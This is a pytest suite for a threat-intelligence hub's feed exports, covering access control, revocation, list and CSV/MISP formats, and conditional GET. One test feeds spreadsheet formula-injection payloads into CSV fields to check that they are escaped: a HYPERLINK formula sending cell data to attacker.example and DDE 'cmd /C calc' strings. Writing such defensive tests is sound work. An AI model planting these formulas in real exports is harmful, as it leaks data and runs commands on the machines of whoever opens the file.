"""The feeds at /hub/v1/feeds/: access exactly as TAXII, what should be blocked now, formats, conditional GET."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
from pathlib import Path
from typing import Any

import pytest
from pymisp import MISPEvent

from converters.markings import marking_definition
from taxii_server.feedexport.exclusions import HubExclusions
from taxii_server.feedexport.service import FeedExports, FeedRequest
from taxii_server.timestamps import parse_us
from taxii_server.web.services import EXTENSION, Services
from tests.support.hubtest import C_MISSING, C_RW, CEIL, INBOX, Hub, indicator, new_id, post_objects

AMBER = "marking-definition--55d920b0-5e8b-4f79-9ee9-91f868d9b421"


def fetch(hub: Hub, org: str | None, path: str, **headers: str) -> Any:
    return hub.client().get(f"/hub/v1/feeds/{path}", headers=hub.headers(org, Accept="*/*", **headers))


def lines(response: Any) -> list[str]:
    assert response.status_code == 200, response.data
    return response.data.decode().splitlines()


def domain(name: str, **extra: Any) -> dict[str, Any]:
    return indicator(pattern=f"[domain-name:value = '{name}']", **extra)


def publish(hub: Hub, objects: list[dict[str, Any]], collection: str = C_RW, org: str = "alice") -> None:
    response = post_objects(hub, org, collection, objects)
    assert response.status_code == 202 and response.json["failure_count"] == 0, response.data


# -- access ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("resource", ["domain.txt", "indicators.csv", "bundle.json", "misp/manifest.json"])
def test_an_outsider_gets_the_same_404_as_for_a_missing_collection(hub: Hub, resource: str) -> None:
    publish(hub, [domain("evil.example")])
    hidden = fetch(hub, "bob", f"{C_RW}/{resource}")
    missing = fetch(hub, "bob", f"{C_MISSING}/{resource}")
    assert hidden.status_code == missing.status_code == 404
    assert hidden.data == missing.data
    assert sorted(hidden.headers.items()) == sorted(missing.headers.items())
    assert hidden.headers["Content-Type"] == "application/json"


def test_a_writer_that_may_not_read_is_refused_with_403(hub: Hub) -> None:
    assert fetch(hub, "writer", f"{C_RW}/domain.txt").status_code == 403


def test_no_credentials_is_401_with_the_challenges(hub: Hub) -> None:
    response = fetch(hub, None, f"{C_RW}/domain.txt")
    assert response.status_code == 401
    assert response.headers.getlist("WWW-Authenticate")


def test_a_bearer_key_and_the_alias_work_like_taxii(hub: Hub) -> None:
    publish(hub, [domain("evil.example")])
    bearer = {"Authorization": f"Bearer {hub.keys['reader']}"}
    response = hub.client().get("/hub/v1/feeds/rw/domain.txt", headers=bearer)
    assert lines(response) == ["evil.example"]


def test_in_an_inbox_a_member_gets_only_what_it_sent(hub: Hub) -> None:
    publish(hub, [domain("alice-saw.example")], INBOX, "alice")
    publish(hub, [domain("bob-saw.example")], INBOX, "bob")
    assert lines(fetch(hub, "alice", f"{INBOX}/domain.txt")) == ["alice-saw.example"]
    assert lines(fetch(hub, "bob", f"{INBOX}/domain.txt")) == ["bob-saw.example"]
    assert sorted(lines(fetch(hub, "analyst", f"{INBOX}/domain.txt"))) == ["alice-saw.example", "bob-saw.example"]


def test_nothing_above_a_collections_tlp_ceiling_reaches_its_feeds(hub: Hub) -> None:
    refused = post_objects(hub, "alice", CEIL, [domain("amber.example", object_marking_refs=[AMBER])])
    assert refused.json["failure_count"] == 1
    publish(hub, [domain("green.example")], CEIL)
    assert lines(fetch(hub, "alice", f"{CEIL}/domain.txt")) == ["green.example"]
    assert b"amber.example" not in fetch(hub, "alice", f"{CEIL}/bundle.json").data


# -- what should be blocked now -----------------------------------------------------------------------------------

def test_a_revoked_indicator_disappears_and_changes_the_etag(hub: Hub) -> None:
    keep, drop = domain("keep.example"), domain("drop.example")
    publish(hub, [keep, drop])
    before = fetch(hub, "alice", f"{C_RW}/domain.txt")
    assert sorted(lines(before)) == ["drop.example", "keep.example"]
    publish(hub, [{**drop, "modified": "2021-06-01T00:00:00.000Z", "revoked": True}])
    after = fetch(hub, "alice", f"{C_RW}/domain.txt")
    assert lines(after) == ["keep.example"]
    assert after.headers["ETag"] != before.headers["ETag"]
    assert b"drop.example" not in fetch(hub, "alice", f"{C_RW}/bundle.json").data


def test_an_indicator_past_valid_until_or_before_valid_from_is_not_listed(hub: Hub) -> None:
    publish(hub, [domain("expired.example", valid_until="2021-02-01T00:00:00Z"),
                  domain("future.example", valid_from="2999-01-01T00:00:00Z"), domain("now.example")])
    assert lines(fetch(hub, "alice", f"{C_RW}/domain.txt")) == ["now.example"]


def test_an_expiry_changes_the_etag_and_removes_the_value_without_any_write(hub: Hub, tmp_path: Path) -> None:
    services: Services = hub.app.extensions[EXTENSION]
    now = [parse_us("2030-01-01T00:00:00Z")]
    exports = FeedExports(services.feeds, hub.store, tmp_path / "cache", clock=lambda: now[0])
    publish(hub, [domain("short.example", valid_until="2030-01-02T00:00:00Z"), domain("long.example")])
    reader = hub.store.get_organisation("alice")
    assert reader is not None
    first = exports.fetch(reader.principal(), FeedRequest("rw", "domain.txt"))
    assert first.body is not None
    with first.body:
        assert sorted(first.body.read().split()) == [b"long.example", b"short.example"]
    same = exports.fetch(reader.principal(), FeedRequest("rw", "domain.txt"), (first.etag,))
    assert same.not_modified and same.body is None
    now[0] = parse_us("2030-01-02T00:00:00Z")
    later = exports.fetch(reader.principal(), FeedRequest("rw", "domain.txt"), (first.etag,))
    assert not later.not_modified and later.etag != first.etag
    assert later.body is not None
    with later.body:
        assert later.body.read() == b"long.example\n"
    assert later.last_modified_us == now[0]


def test_compound_patterns_stay_out_of_the_lists_but_in_the_bundle(hub: Hub) -> None:
    compound = indicator(pattern="[domain-name:value = 'a.example' AND domain-name:value = 'b.example']")
    publish(hub, [compound, domain("plain.example")])
    assert lines(fetch(hub, "alice", f"{C_RW}/domain.txt")) == ["plain.example"]
    bundle = json.loads(fetch(hub, "alice", f"{C_RW}/bundle.json").data)
    assert compound["id"] in {o["id"] for o in bundle["objects"]}


# -- formats -----------------------------------------------------------------------------------------------------

def test_each_list_carries_only_its_kind_one_value_per_line(hub: Hub) -> None:
    sha256, sha1, md5 = "a" * 64, "b" * 40, "c" * 32
    publish(hub, [
        indicator(pattern="[ipv4-addr:value = '185.220.101.0/24']"),
        indicator(pattern="[ipv6-addr:value = '2a0b:4140::1']"),
        domain("evil.example"), domain("evil.example"),
        indicator(pattern="[url:value = 'https://evil.example/x?y=1']"),
        indicator(pattern=f"[file:hashes.'SHA-256' = '{sha256}' OR file:hashes.'SHA-1' = '{sha1}' OR "
                          f"file:hashes.MD5 = '{md5}']"),
        indicator(pattern="[email-message:from_ref.value = 'ceo@evil.example']"),
    ])
    expected = {"ipv4.txt": ["185.220.101.0/24"], "ipv6.txt": ["2a0b:4140::1"], "domain.txt": ["evil.example"],
                "url.txt": ["evil.example/x?y=1"], "url.txt?format=fortigate": ["https://evil.example/x?y=1"],
                "sha256.txt": [sha256], "sha1.txt": [sha1], "md5.txt": [md5], "email.txt": ["ceo@evil.example"],
                "domain.txt?wildcard=1": ["evil.example", "*.evil.example"]}
    for resource, values in expected.items():
        response = fetch(hub, "alice", f"{C_RW}/{resource}")
        assert lines(response) == values, resource
        assert response.headers["Content-Type"] == "text/plain; charset=utf-8"
        assert not any(line.startswith("#") for line in lines(response))


def test_injected_line_breaks_commas_quotes_and_hashes_do_not_make_lines_or_cells(hub: Hub) -> None:
    campaign = {"type": "campaign", "spec_version": "2.1", "id": new_id("campaign"), "name": 'Op "x",\n#y',
                "created": "2021-01-01T00:00:00.000Z", "modified": "2021-01-01T00:00:00.000Z"}
    url = indicator(pattern="[url:value = 'http://evil.example/a\\'b,\"c#\nwww.bank.example']",
                    labels=["a,b", 'c"d', "#e\nf"])
    bad_domain = indicator(pattern="[domain-name:value = 'evil.example\nwww.bank.example']")
    relationship = {"type": "relationship", "spec_version": "2.1", "id": new_id("relationship"),
                    "relationship_type": "indicates", "source_ref": url["id"], "target_ref": campaign["id"],
                    "created": "2021-01-01T00:00:00.000Z", "modified": "2021-01-01T00:00:00.000Z"}
    publish(hub, [campaign, url, bad_domain, relationship])
    assert lines(fetch(hub, "alice", f"{C_RW}/url.txt")) == ["evil.example/a%27b%2C%22c"]
    assert fetch(hub, "alice", f"{C_RW}/domain.txt").data == b""
    rows = list(csv.DictReader(io.StringIO(fetch(hub, "alice", f"{C_RW}/indicators.csv").data.decode(),
                                           newline="")))
    assert len(rows) == 1
    assert rows[0]["value"] == "http://evil.example/a%27b%2C%22c"
    assert rows[0]["campaign"] == 'Op "x", #y'  # line breaks become spaces: one row per line
    assert rows[0]["labels"] == 'a,b;c"d;#e f'


def test_no_csv_cell_starts_a_formula_or_breaks_a_line(hub: Hub) -> None:
    formula = indicator(pattern="[email-addr:value = '=1+2@evil-formula.example' OR "
                                "domain-name:value = 'formula-test.example']",
                        labels=['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                                "a\r\nb", "line\u2028sep\u0085nel"],
                        indicator_types=["@SUM(1+1)*cmd|' /C calc'!A0"])
    campaign = {"type": "campaign", "spec_version": "2.1", "id": new_id("campaign"), "name": "-2+3+cmd|' /C calc'!A0",
                "created": "2021-01-01T00:00:00.000Z", "modified": "2021-01-01T00:00:00.000Z"}
    relationship = {"type": "relationship", "spec_version": "2.1", "id": new_id("relationship"),
                    "relationship_type": "indicates", "source_ref": formula["id"], "target_ref": campaign["id"],
                    "created": "2021-01-01T00:00:00.000Z", "modified": "2021-01-01T00:00:00.000Z"}
    publish(hub, [formula, campaign, relationship])
    body = fetch(hub, "alice", f"{C_RW}/indicators.csv").data.decode()
    assert len(body.split("\r\n")) == 3 and not any(c in body for c in "\u2028\u0085")  # header, one row, end
    (row,) = list(csv.DictReader(io.StringIO(body, newline="")))
    assert row["value"] == "formula-test.example"  # the e-mail value that starts a formula is left out
    for name in ("value", "type", "confidence", "valid_from", "valid_until", "indicator_types", "labels",
                 "campaign", "tlp", "stix_id"):
        assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r")), (name, row[name])
    assert row["labels"].startswith("'=HYPERLINK") and row["campaign"] == "'-2+3+cmd|' /C calc'!A0"


def test_the_csv_is_rfc_4180_with_one_header_row(hub: Hub) -> None:
    ind = domain("evil.example", confidence=80, indicator_types=["malicious-activity"],
                 valid_until="2999-01-01T00:00:00Z", object_marking_refs=[AMBER])
    publish(hub, [ind])
    response = fetch(hub, "alice", f"{C_RW}/indicators.csv")
    assert response.headers["Content-Type"].startswith("text/csv; charset=utf-8")
    assert response.data.endswith(b"\r\n") and b"\n" not in response.data.replace(b"\r\n", b"")
    (header, *rows) = list(csv.reader(io.StringIO(response.data.decode(), newline="")))
    assert header == ["value", "type", "confidence", "valid_from", "valid_until", "indicator_types", "labels",
                      "campaign", "tlp", "stix_id", "first_added", "last_added", "state"]
    assert rows == [["evil.example", "domain", "80", "2021-01-01T00:00:00Z", "2999-01-01T00:00:00Z",
                     "malicious-activity", "", "", "amber", ind["id"], rows[0][10], rows[0][11], "active"]]


def test_since_gives_what_changed_with_its_state(hub: Hub) -> None:
    old, gone = domain("old.example"), domain("gone.example")
    publish(hub, [old, gone])
    since = fetch(hub, "alice", f"{C_RW}/indicators.csv")
    mark = list(csv.DictReader(io.StringIO(since.data.decode(), newline="")))[-1]["last_added"]
    publish(hub, [domain("new.example"), {**gone, "modified": "2021-06-01T00:00:00.000Z", "revoked": True}])
    rows = list(csv.DictReader(io.StringIO(fetch(hub, "alice", f"{C_RW}/indicators.csv?since={mark}").data.decode(),
                                           newline="")))
    assert sorted((r["value"], r["state"]) for r in rows) == [("gone.example", "revoked"), ("new.example", "active")]


def test_the_misp_feed_loads_with_pymisp_as_the_feed_fetcher_reads_it(hub: Hub) -> None:
    report_id = new_id("report")
    ind = domain("evil.example", object_marking_refs=[AMBER])
    loose = indicator(pattern="[ipv4-addr:value = '185.220.101.7']")
    report = {"type": "report", "spec_version": "2.1", "id": report_id, "name": "Campaign X",
              "published": "2021-03-01T00:00:00Z", "object_refs": [ind["id"]], "object_marking_refs": [AMBER],
              "created": "2021-03-01T00:00:00.000Z", "modified": "2021-03-01T00:00:00.000Z"}
    publish(hub, [ind, loose, report])
    manifest = json.loads(fetch(hub, "alice", f"{C_RW}/misp/manifest.json").data)
    hashes = lines(fetch(hub, "alice", f"{C_RW}/misp/hashes.csv"))
    assert report_id.split("--")[1] in manifest and len(manifest) == 2
    expected_hashes = []
    for event_uuid, entry in manifest.items():
        event = MISPEvent()
        event.load(fetch(hub, "alice", f"{C_RW}/misp/{event_uuid}.json").data.decode())
        assert event.uuid == event_uuid
        theirs = event.manifest[event_uuid]
        assert {k: v for k, v in theirs.items() if k != "Tag"} == {k: v for k, v in entry.items() if k != "Tag"}
        assert [(t["name"], t["colour"]) for t in theirs["Tag"]] == [(t["name"], t["colour"]) for t in entry["Tag"]]
        expected_hashes += [f"{h},{event_uuid}" for h in event.attributes_hashes("md5")]
    assert sorted(hashes) == sorted(expected_hashes)
    event = MISPEvent()
    event.load(fetch(hub, "alice", f"{C_RW}/misp/{report_id.split('--')[1]}.json").data.decode())
    assert [(a.type, a.value, a.to_ids) for a in event.attributes] == [("domain", "evil.example", True)]
    assert [t.name for t in event.tags] == ["tlp:amber"]
    again = MISPEvent()
    again.load(fetch(hub, "alice", f"{C_RW}/misp/{report_id.split('--')[1]}.json").data.decode())
    assert again.attributes[0].uuid == event.attributes[0].uuid  # stable uuids


def test_only_the_hubs_own_objects_are_hub_events_and_no_event_mixes_writers(hub: Hub) -> None:
    """A member's report in a collection members write is the member's event (not vetted, not the hub's Orgc);
    it cannot gather the hub's indicators, nor the hub's report a member's; the event's TLP tag is the most
    restrictive of its report's and its attributes'."""
    hub_identity = next(iter(hub.app.extensions[EXTENSION].exports.hub_identities))
    vetted = domain("vetted.example", created_by_ref=hub_identity, object_marking_refs=[AMBER])
    hub_report = {"type": "report", "spec_version": "2.1", "id": new_id("report"), "name": "Hub publication",
                  "published": "2021-03-01T00:00:00Z", "object_refs": [vetted["id"]], "created_by_ref": hub_identity,
                  "created": "2021-03-01T00:00:00.000Z", "modified": "2021-03-01T00:00:00.000Z"}
    identity = {"type": "identity", "spec_version": "2.1", "id": hub_identity, "name": "taxii-hub",
                "identity_class": "organization", "created": "2021-01-01T00:00:00.000Z",
                "modified": "2021-01-01T00:00:00.000Z"}
    publish(hub, [identity, marking_definition("amber"), vetted, hub_report], org="analyst")
    own = domain("members-own.example")
    claim = {"type": "report", "spec_version": "2.1", "id": new_id("report"),
             "name": "Hub advisory: block these now (vetted by taxii-hub)", "published": "2021-03-02T00:00:00Z",
             "object_refs": [own["id"], vetted["id"]], "created": "2021-03-02T00:00:00.000Z",
             "modified": "2021-03-02T00:00:00.000Z"}
    publish(hub, [own, claim])
    manifest = json.loads(fetch(hub, "alice", f"{C_RW}/misp/manifest.json").data)
    events = {u: json.loads(fetch(hub, "alice", f"{C_RW}/misp/{u}.json").data)["Event"] for u in manifest}
    hub_event = events[hub_report["id"].split("--")[1]]
    member_event = events[claim["id"].split("--")[1]]
    assert hub_event["Orgc"]["name"] == "taxii-hub" and hub_event["analysis"] == 2
    assert [a["value"] for a in hub_event["Attribute"]] == ["vetted.example"]
    assert [t["name"] for t in hub_event["Tag"]] == ["tlp:amber"]  # from its attribute: the report has none
    assert member_event["Orgc"]["name"] != "taxii-hub" and member_event["analysis"] == 0
    assert [a["value"] for a in member_event["Attribute"]] == ["members-own.example"]
    assert all(e["Orgc"]["name"] != "taxii-hub" for u, e in events.items() if u != hub_report["id"].split("--")[1])


def test_a_feed_url_without_its_slash_is_a_json_404_never_a_redirect(hub: Hub) -> None:
    response = hub.client().get(f"/hub/v1/feeds/{C_RW}", headers=hub.headers("alice", Accept="*/*",
                                                                             Host="evil.example"))
    assert response.status_code == 404 and response.headers["Content-Type"] == "application/json"
    assert "Location" not in response.headers and b"evil.example" not in response.data
    assert hub.client().get(f"/hub/v1/feeds/{C_RW}", headers={"Host": "evil.example"}).status_code == 401


def test_an_unknown_feed_or_format_is_a_json_error(hub: Hub) -> None:
    assert fetch(hub, "alice", f"{C_RW}/nothing.txt").status_code == 404
    bad = fetch(hub, "alice", f"{C_RW}/url.txt?format=cisco")
    assert bad.status_code == 400 and bad.headers["Content-Type"] == "application/json"
    assert fetch(hub, "alice", f"{C_RW}/domain.txt?since=yesterday").status_code == 400


# -- cheap polling -----------------------------------------------------------------------------------------------

def test_a_second_fetch_with_the_validators_is_304_and_the_body_is_unchanged(hub: Hub) -> None:
    publish(hub, [domain("evil.example")])
    first = fetch(hub, "alice", f"{C_RW}/indicators.csv")
    digest = hashlib.sha256(first.data).hexdigest()
    by_etag = fetch(hub, "alice", f"{C_RW}/indicators.csv", **{"If-None-Match": first.headers["ETag"]})
    by_date = fetch(hub, "alice", f"{C_RW}/indicators.csv", **{"If-Modified-Since": first.headers["Last-Modified"]})
    assert by_etag.status_code == by_date.status_code == 304
    assert by_etag.data == b"" and by_etag.headers["ETag"] == first.headers["ETag"]
    assert hashlib.sha256(fetch(hub, "alice", f"{C_RW}/indicators.csv").data).hexdigest() == digest


def test_a_publication_changes_the_etag(hub: Hub) -> None:
    publish(hub, [domain("evil.example")])
    first = fetch(hub, "alice", f"{C_RW}/domain.txt")
    publish(hub, [domain("worse.example")])
    again = fetch(hub, "alice", f"{C_RW}/domain.txt", **{"If-None-Match": first.headers["ETag"]})
    assert again.status_code == 200 and again.headers["ETag"] != first.headers["ETag"]


def test_gzip_when_asked(hub: Hub) -> None:
    publish(hub, [domain(f"host{n}.evil.example") for n in range(100)])
    plain = fetch(hub, "alice", f"{C_RW}/domain.txt")
    zipped = fetch(hub, "alice", f"{C_RW}/domain.txt", **{"Accept-Encoding": "gzip"})
    assert zipped.headers["Content-Encoding"] == "gzip" and "Accept-Encoding" in zipped.headers["Vary"]
    assert gzip.decompress(zipped.data) == plain.data and len(zipped.data) < len(plain.data)
    assert "Content-Encoding" not in fetch(hub, "alice", f"{C_RW}/domain.txt",
                                           **{"Accept-Encoding": "gzip;q=0"}).headers


def test_feed_fetches_are_in_the_poll_history(hub: Hub) -> None:
    publish(hub, [domain("evil.example")])
    fetch(hub, "alice", f"{C_RW}/domain.txt")
    fetch(hub, "bob", f"{C_RW}/domain.txt")
    polls = hub.client().get("/hub/v1/polls", headers=hub.headers("alice", Accept="application/json")).json["polls"]
    assert [(p["endpoint"], p["status"], p["objects"]) for p in polls] == [("feed:domain.txt", 200, 1)]
    assert polls[0]["collection"] == C_RW and polls[0]["date_added_last"] is not None


def test_the_listing_names_every_feed_of_every_readable_collection(hub: Hub) -> None:
    listing = hub.client().get("/hub/v1/feeds/", headers=hub.headers("reader", Accept="application/json")).json
    assert sorted(f["collection"] for f in listing["feeds"]) == sorted([C_RW, INBOX])
    (rw,) = (f["feeds"] for f in listing["feeds"] if f["collection"] == C_RW)
    assert "/hub/v1/feeds/rw/domain.txt" in rw and "/hub/v1/feeds/rw/misp" in rw


def test_values_on_the_warning_lists_never_appear(hub: Hub) -> None:
    publish(hub, [domain("google.com"), domain("evil.example"), indicator(pattern="[ipv4-addr:value = '8.8.8.8']"),
                  indicator(pattern="[url:value = 'https://www.google.com/']")])
    assert lines(fetch(hub, "alice", f"{C_RW}/domain.txt")) == ["evil.example"]
    assert lines(fetch(hub, "alice", f"{C_RW}/ipv4.txt")) == []
    assert lines(fetch(hub, "alice", f"{C_RW}/url.txt")) == []
    csv_rows = list(csv.DictReader(io.StringIO(fetch(hub, "alice", f"{C_RW}/indicators.csv").data.decode(),
                                               newline="")))
    assert [r["value"] for r in csv_rows] == ["evil.example"]
    assert b"google.com" not in fetch(hub, "alice", f"{C_RW}/misp/hashes.csv").data + b"".join(
        fetch(hub, "alice", f"{C_RW}/misp/{u}.json").data
        for u in json.loads(fetch(hub, "alice", f"{C_RW}/misp/manifest.json").data))


def test_values_on_the_hub_allow_list_never_appear_and_a_change_of_it_changes_the_etag(
        hub: Hub, tmp_path: Path) -> None:
    services: Services = hub.app.extensions[EXTENSION]
    exports = FeedExports(services.feeds, hub.store, tmp_path / "cache", exclusions=HubExclusions(hub.store,
                                                                                                  refresh_s=0))
    analyst = hub.store.get_organisation("analyst")
    reader = hub.store.get_organisation("alice")
    assert analyst is not None and reader is not None
    publish(hub, [domain("mail.partner.example"), domain("evil.example")])
    before = exports.fetch(reader.principal(), FeedRequest("rw", "domain.txt"))
    assert before.body is not None
    with before.body:
        assert sorted(before.body.read().split()) == [b"evil.example", b"mail.partner.example"]
    services.hub.allowlist.add(analyst.principal(), "domain-name", "partner.example", "the partner's relay")
    after = exports.fetch(reader.principal(), FeedRequest("rw", "domain.txt"), (before.etag,))
    assert after.etag != before.etag and after.body is not None
    with after.body:
        assert after.body.read() == b"evil.example\n"
